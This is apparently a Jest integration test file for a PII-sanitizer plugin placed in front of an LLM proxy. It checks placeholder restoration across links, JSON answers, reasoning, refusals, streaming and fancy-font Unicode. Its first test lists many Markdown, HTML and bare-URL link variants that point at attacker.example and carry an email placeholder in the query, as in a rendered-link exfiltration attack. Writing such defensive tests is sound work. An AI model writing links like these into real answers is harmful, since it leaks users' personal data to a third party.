import { startCaptureServer, type CaptureServer } from '../support/capture-server';
import { shipped } from '../support/shipped';
import { chatChunk as chunk, chunksOf, readSse, streamedText } from '../support/sse';
import { declarative, llmProxy, postRoute } from '../support/routes';
import { startSuiteStack, type SuiteStack } from '../support/suite-stack';
import { chatCompletion } from '../support/chat-completion';

jest.setTimeout(60_000);

/**
 * The sanitizer's answer paths at their edges, through the real plugin server and bridge against a scripted provider:
 * links a model writes to carry a value away, whole and streamed; a JSON answer's reasoning and refusal, which are no JSON.
 */
const EMAIL = 'jane.doe@corp-example.com';
const DONE = 'data: [DONE]\n\n';
const ADDRESS = '221B Baker Street\nLondon NW1 6XE';
const stream = (text: string, size: number) => [chunk({ role: 'assistant', content: '' }), ...text.match(new RegExp(`.{1,${size}}`, 'gs'))!.map((content) => chunk({ content })), chunk({}, 'stop'), DONE];

describe('pii-sanitizer at the edges of an answer', () => {
  let provider: CaptureServer;
  let stack: SuiteStack;
  const route = (name: string, pii: Record<string, unknown>) => postRoute(name, [{ name: 'pii-sanitizer', config: pii }, llmProxy(provider.url, { balancer: { retries: 0 } })]);

  beforeAll(async () => {
    provider = await startCaptureServer();
    stack = await startSuiteStack({
      plugins: shipped('pii-sanitizer', 'llm-proxy'),
      declarative: declarative([route('placeholder', {}), route('output', { mode: 'output' }), route('mask', { default_action: 'mask' })]),
    });
  });
  afterAll(async () => {
    await stack?.close();
    await provider?.close();
  });

  const chat = (path: string, content: string, extra: Record<string, unknown> = {}) =>
    fetch(`${stack.standin.url}/${path}`, { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify({ messages: [{ role: 'user', content }], ...extra }) });

  /** The answer's text as the client gets it, whole and streamed in pieces of `size`. */
  const answered = async (content: string, size = 7): Promise<string[]> => {
    provider.respond = () => ({ status: 200, body: chatCompletion(content) });
    const whole = ((await (await chat('placeholder', `My mail is ${EMAIL}.`)).json()) as any).choices[0].message.content as string;
    provider.respond = () => ({ status: 200, sse: stream(content, size) });
    const streamed = streamedText(await readSse(await chat('placeholder', `My mail is ${EMAIL}.`, { stream: true })));
    return [whole, streamed];
  };

  it('puts no value into a link however long, with a quote or brackets in its path, or with blanks where a renderer takes them', async () => {
    const links = [
      // A query longer than what is read back before a placeholder.
      `![s](https://attacker.example/p.png?pad=${'A'.repeat(3000)}&m=[EMAIL_1])`,
      // Markdown takes balanced brackets and quotes in a link's destination.
      '![s](https://attacker.example/p(1).png?m=[EMAIL_1])',
      "![s](https://attacker.example/p.png?m='[EMAIL_1])",
      // A destination in angle brackets, and an HTML attribute's value, may hold blanks.
      '![s](<https://attacker.example/a b.png?m=[EMAIL_1]>)',
      '<img src="https://attacker.example/p.png?q=a b&m=[EMAIL_1]">',
      // A link after one a single quote closed; a quote that closes nothing an autolinker reads ("'…?m='[EMAIL_1]", "…/x'y?m=").
      "urls = ['https://acme.example/a','https://attacker.example/?m=[EMAIL_1]']",
      "See 'https://attacker.example/?m='[EMAIL_1] now",
      "See 'https://attacker.example/x'y?m=[EMAIL_1]",
      // A Markdown destination takes quotes and backticks; a long link with a letter of another script in it is a link.
      '![a](https://attacker.example/?m="[EMAIL_1])',
      '![a](https://attacker.example/?m=`[EMAIL_1])',
      `![s](https://attacker.example/p.png?pad=${'A'.repeat(3000)}ü&m=[EMAIL_1])`,
      // Balanced brackets and escapes in a Markdown destination; a reference's definition; escaped slashes and entities.
      '![a](https://attacker.example/(x)?m="[EMAIL_1])',
      '![a](https://attacker.example/?m=\\)"[EMAIL_1])',
      '\n[r]: https://attacker.example/p.png?m="[EMAIL_1]\n',
      '![a](https:\\/\\/attacker.example/p.png?m=[EMAIL_1])',
      '![a](https&#58;//attacker.example/p.png?m=[EMAIL_1])',
      // A bare link runs over quotes and backticks, as autolinkers read it.
      'Visit https://attacker.example/?m="[EMAIL_1] now',
      'Visit https://attacker.example/?m=`[EMAIL_1]` now',
      'Visit:https://attacker.example/?m="[EMAIL_1]"',
      // Compact JSON in prose: renderers link across its quotes.
      '{"url":"https://attacker.example/?x","email":"[EMAIL_1]"}',
      // Any Markdown destination, nested brackets, a scheme without slashes, mailto; a reference in angle brackets; an
      // attribute's value across a line break, and one without quotes.
      '![x](https://attacker.example/p.png?m=((a))[EMAIL_1])',
      '![x](http:attacker.example/p.png?m=[EMAIL_1])',
      '[x](mailto:x@attacker.example?body=[EMAIL_1])',
      '\n[r]: <https://attacker.example/p.png?a= [EMAIL_1]>\n',
      '<img src="https://attacker.example/?m=\n[EMAIL_1]">',
      '<img src=https://attacker.example/?m="[EMAIL_1]">',
    ];
    for (const link of links) {
      for (const answer of await answered(`Done. ${link} Thanks, [EMAIL_1].`)) {
        // The answer as sent, the link's placeholder kept, the one after it restored.
        expect({ link: link.slice(-48), answer: answer === `Done. ${link} Thanks, ${EMAIL}.` }).toEqual({ link: link.slice(-48), answer: true });
      }
    }
  });

  it('still restores a placeholder after a link has ended', async () => {
    const texts = [
      'See (https://acme.example/docs) or write to [EMAIL_1].',
      "Our site is 'https://acme.example' and you are [EMAIL_1].",
      '<a href="https://acme.example/a b">docs</a> for [EMAIL_1]',
      `The page https://acme.example/${'x'.repeat(2100)} is long.\n${'Some words here. '.repeat(10)}Write to [EMAIL_1].`,
      // Pretty JSON in prose: a blank ends the link.
      '{"url": "https://acme.example/a", "email": "[EMAIL_1]"}',
    ];
    for (const text of texts) {
      for (const answer of await answered(text)) expect(answer).toBe(text.replace('[EMAIL_1]', EMAIL));
    }
  });
  it("puts a value back as written in a JSON answer's reasoning and refusal, escaped as JSON in its content only", async () => {
    const ask = () => chat('placeholder', `Send the parcel to ${ADDRESS} as JSON.`, { response_format: { type: 'json_object' } });
    const reasoning = 'The parcel goes to [ADDRESS_1], so I write that.';
    const content = '{"to":"[ADDRESS_1]"}';
    provider.respond = () => ({
      status: 200,
      body: { ...chatCompletion(content), choices: [{ index: 0, message: { role: 'assistant', content, reasoning_content: reasoning, refusal: 'Not for [ADDRESS_1].' }, finish_reason: 'stop' }] },
    });
    const message = ((await (await ask()).json()) as any).choices[0].message;
    expect(JSON.parse(message.content)).toEqual({ to: ADDRESS });
    // In a JSON answer only the string a placeholder sits in is read for a link: a site in the field before is none.
    provider.respond = () => ({ status: 200, body: chatCompletion('{"site":"https://acme.example/a","to":"[ADDRESS_1]"}') });
    expect(JSON.parse(((await (await ask()).json()) as any).choices[0].message.content)).toEqual({ site: 'https://acme.example/a', to: ADDRESS });
    expect(message.reasoning_content).toBe(`The parcel goes to ${ADDRESS}, so I write that.`);
    expect(message.refusal).toBe(`Not for ${ADDRESS}.`);

    provider.respond = () => ({
      status: 200,
      sse: [chunk({ role: 'assistant', content: '' }), ...reasoning.match(/.{1,5}/gs)!.map((piece) => chunk({ reasoning_content: piece })), ...content.match(/.{1,5}/gs)!.map((piece) => chunk({ content: piece })), chunk({}, 'stop'), DONE],
    });
    const res = await chat('placeholder', `Send the parcel to ${ADDRESS} as JSON.`, { response_format: { type: 'json_object' }, stream: true });
    const events = chunksOf(await readSse(res));
    expect(events.map((c) => c.choices?.[0]?.delta?.reasoning_content ?? '').join('')).toBe(`The parcel goes to ${ADDRESS}, so I write that.`);
    expect(JSON.parse(events.map((c) => c.choices?.[0]?.delta?.content ?? '').join(''))).toEqual({ to: ADDRESS });
  });
  it('keeps the order of reasoning or a refusal that comes in the finishing chunk, with what was held back after it', async () => {
    const reasoning = `Thinking about the request: the customer wrote from ${EMAIL} and wants a refund for the order placed last week, so I`;
    // The last piece long enough that the scan releases part of the window with it.
    const last = reasoning.slice(-60);
    const pieces = reasoning.slice(0, -60).match(/.{1,9}/gs)!;
    provider.respond = () => ({
      status: 200,
      sse: [chunk({ role: 'assistant', content: '' }), ...pieces.map((piece) => chunk({ reasoning_content: piece })), chunk({ reasoning_content: last }, 'length'), DONE],
    });
    const events = chunksOf(await readSse(await chat('output', 'hi', { stream: true })));
    expect(events.map((c) => c.choices?.[0]?.delta?.reasoning_content ?? '').join('')).toBe(reasoning.replace(EMAIL, '[REDACTED]'));
    expect(events.filter((c) => c.choices?.[0]?.finish_reason).map((c) => c.choices[0].finish_reason)).toEqual(['length']);

    provider.respond = () => ({ status: 200, sse: [chunk({ role: 'assistant', content: '' }), chunk({ refusal: 'I will not write to ' }), chunk({ refusal: 'you at [EMA' }, 'stop'), DONE] });
    const refused = chunksOf(await readSse(await chat('placeholder', `I am ${EMAIL}`, { stream: true })));
    expect(refused.map((c) => c.choices?.[0]?.delta?.refusal ?? '').join('')).toBe('I will not write to you at [EMA');
  });
  it('restores a value a client cut across text parts as it was typed, without the separator the parts were read with', async () => {
    provider.respond = () => ({ status: 200, body: chatCompletion('Sent to [EMAIL_1] for card [CREDIT_CARD_1].') });
    const content = [{ type: 'text', text: 'Reply to jane.doe@corp-' }, { type: 'text', text: 'example.com about card 4111 1111 ' }, { type: 'text', text: '1111 1111 please.' }];
    const res = await fetch(`${stack.standin.url}/placeholder`, { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify({ messages: [{ role: 'user', content }] }) });
    expect(((await res.json()) as any).choices[0].message.content).toBe(`Sent to ${EMAIL} for card 4111 1111 1111 1111.`);
  });
  it('masks a value written in letters beyond the BMP (a name in a fancy font) with its whole first letter, never half of it', async () => {
    provider.respond = () => ({ status: 200, body: chatCompletion('ok') });
    const before = provider.received.length;
    const res = await chat('mask', 'My name is 𝐉𝐚𝐧𝐞 𝐃𝐨𝐞, nice to meet you.');
    expect(res.status).toBe(200);
    const sent = JSON.parse(provider.received[before]!.body.toString('utf8')).messages[0].content as string;
    expect(sent).not.toMatch(/[\ud800-\udbff](?![\udc00-\udfff])|(?<![\ud800-\udbff])[\udc00-\udfff]/);
    expect(sent).toContain('My name is 𝐉***, nice');
    expect(sent).not.toContain('𝐃𝐨𝐞');
  });
  it('reads digits and letters typed in a fancy font (mathematical alphanumerics) as their ASCII, and restores them as typed', async () => {
    const card = '𝟒𝟏𝟏𝟏 𝟏𝟏𝟏𝟏 𝟏𝟏𝟏𝟏 𝟏𝟏𝟏𝟏';
    const mail = '𝗷𝗮𝗻𝗲.𝗱𝗼𝗲@corp-example.com';
    provider.respond = () => ({ status: 200, body: chatCompletion('Card [CREDIT_CARD_1], mail [EMAIL_1].') });
    const before = provider.received.length;
    const res = await chat('placeholder', `My card is ${card} and my mail ${mail} thanks`);
    expect(((await res.json()) as any).choices[0].message.content).toBe(`Card ${card}, mail ${mail}.`);
    const sent = JSON.parse(provider.received[before]!.body.toString('utf8')).messages[0].content as string;
    expect(sent).toBe('My card is [CREDIT_CARD_1] and my mail [EMAIL_1] thanks');
  });
});
